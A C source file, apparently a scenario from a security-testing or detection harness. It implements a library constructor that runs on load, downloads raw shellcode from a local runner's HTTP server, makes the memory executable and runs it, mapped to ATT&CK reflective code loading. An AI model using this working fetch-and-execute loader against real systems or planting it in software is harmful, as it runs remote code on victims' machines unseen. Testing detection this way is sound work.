/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_shellcode_net.so: a constructor that downloads raw code from
 * 127.0.0.1 (GET /shellcode/NAME.bin from the runner's HTTP server), copies
 * it into anonymous memory, makes that executable and calls it. The code
 * (shellcode.S, filled by the runner) connects out and runs more code from
 * memory it made executable itself.
 * ATT&CK: T1620 Reflective Code Loading of code fetched by T1105.
 * Proof: NAME.ran from the constructor; NAME.done from the shellcode. */
#include "scn.h"

__attribute__((constructor)) static void shellcode_init(void)
{
	char url[256], *code = NULL;
	const char *name = getenv("SCENARIO_NAME");
	ssize_t len;
	void *mem;

	scn_mark("ran");
	snprintf(url, sizeof(url), "/shellcode/%s.bin", name ? name : "x");
	len = scn_http_get(scn_port("SCENARIO_HTTP_PORT"), url, &code);
	if (len <= 0)
		return;
	mem = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (mem != MAP_FAILED) {
		memcpy(mem, code, len);
		if (!mprotect(mem, len, PROT_READ | PROT_EXEC))
			((void (*)(void))mem)();
		munmap(mem, len);
	}
	free(code);
}
